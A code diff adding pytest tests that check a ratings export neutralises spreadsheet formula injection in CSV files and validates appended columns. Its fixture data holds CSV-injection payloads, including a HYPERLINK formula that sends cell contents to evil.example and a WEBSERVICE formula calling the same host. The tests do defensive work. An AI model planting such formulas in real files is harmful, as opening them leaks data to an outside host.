@@ -2,14 +2,20 @@
 
 from __future__ import annotations
 
+from csv import reader
 from pathlib import Path
 
+import numpy as np
 import pandas as pd
 import pytest
 
 from analysis.load import RatingsError, read_ratings, validate
 from analysis.simulate import CrowdSpec, simulate
 from service.studies.export import RATINGS_COLUMNS, write_frame
+from service.studies.ratings_file import APPENDED_COLUMNS, REQUIRED_COLUMNS
+
+HOSTILE_LABELS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-1", "@SUM(A1)",
+                  "\t=1+1", "\r=1+1", " =1+1", "'=1+1", "-", "it's fine", "'quoted'"]
 
 
 @pytest.fixture
@@ -94,3 +100,66 @@ def test_load_study_from_the_database(engine) -> None:  # type: ignore[no-untype
     assert all(png.startswith(b"\x89PNG") for png in images.values())
     with pytest.raises(ExportError, match="no study with id 999"):
         ratings_frame(engine, 999)
+
+
+def _with_appended(raw: pd.DataFrame) -> pd.DataFrame:
+    """The simulated ratings with the appended columns filled as the site's export fills them."""
+    return raw.assign(
+        task="rating", reference=pd.NA, correct=pd.NA, choice=pd.NA,
+        annotator_source=pd.array(np.where(raw.index % 2 == 0, "prolific", "mturk"),
+                                  dtype="string"),
+        question="=WEBSERVICE(\"http://evil.example/\") -1?",
+        query_gap=pd.array([pd.NA] * len(raw), dtype="Float64"),
+        server_rt_ms=pd.array(range(len(raw)), dtype="Int64"),
+    )
+
+
+@pytest.mark.parametrize("appended", [False, True])
+def test_a_neutralised_csv_reads_as_the_parquet_file(raw: pd.DataFrame, tmp_path: Path,
+                                                     appended: bool) -> None:
+    frame = raw.assign(label=pd.array([HOSTILE_LABELS[i % len(HOSTILE_LABELS)]
+                                       for i in range(len(raw))], dtype="string"))
+    if appended:
+        frame = _with_appended(frame)
+    csv = write_frame(frame, tmp_path / "r.csv", "csv")
+    parquet = write_frame(frame, tmp_path / "r.parquet", "parquet")
+    with csv.open(newline="") as handle:
+        cells = [cell for row in reader(handle) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("\t", "\r"))
+                or cell.lstrip().startswith(("=", "+", "-", "@"))]
+    assert "'" + HOSTILE_LABELS[0] in cells and "''=1+1" in cells and "'-1" in cells
+    from_csv, from_parquet = read_ratings(csv), read_ratings(parquet)
+    pd.testing.assert_frame_equal(from_csv, from_parquet)
+    labels = from_csv["label"].astype("object")
+    assert labels[labels.notna()].str.strip().isin([h.strip() for h in HOSTILE_LABELS]).all()
+    assert set(labels[labels.notna()]) >= {"-1", "'=1+1", HOSTILE_LABELS[0]}
+    if appended:
+        assert str(from_csv["question"].iloc[0]) == "=WEBSERVICE(\"http://evil.example/\") -1?"
+        assert from_csv["server_rt_ms"].tolist() == list(range(len(raw)))
+
+
+def test_files_with_and_without_the_appended_columns(raw: pd.DataFrame, tmp_path: Path) -> None:
+    old = read_ratings(write_frame(raw[list(REQUIRED_COLUMNS)], tmp_path / "old.csv", "csv"))
+    new = read_ratings(write_frame(_with_appended(raw), tmp_path / "new.csv", "csv"))
+    assert list(old.columns) == list(new.columns) == list(RATINGS_COLUMNS)
+    assert (old["task"] == "rating").all() and (new["task"] == "rating").all()
+    for column in APPENDED_COLUMNS[1:]:
+        assert old[column].isna().all(), column
+    assert new["server_rt_ms"].dtype == "Int64" and new["query_gap"].dtype == "Float64"
+    assert set(new["annotator_source"].astype(str)) == {"prolific", "mturk"}
+    pd.testing.assert_frame_equal(old[list(REQUIRED_COLUMNS)], new[list(REQUIRED_COLUMNS)])
+
+
+@pytest.mark.parametrize(
+    ("column", "value", "message"),
+    [
+        ("task", "survey", "row 4, column 'task': 'survey' is not one of rating, 2afc"),
+        ("server_rt_ms", -3, "row 4, column 'server_rt_ms': -3 is negative"),
+        ("server_rt_ms", "soon", "row 4, column 'server_rt_ms': 'soon' is not a whole number"),
+        ("query_gap", "wide", "row 4, column 'query_gap': 'wide' is not a number"),
+    ],
+)
+def test_bad_appended_values_name_row_and_column(raw: pd.DataFrame, column: str, value: object,
+                                                 message: str) -> None:
+    with pytest.raises(RatingsError, match=message):
+        validate(_broken(_with_appended(raw), 3, column, value))
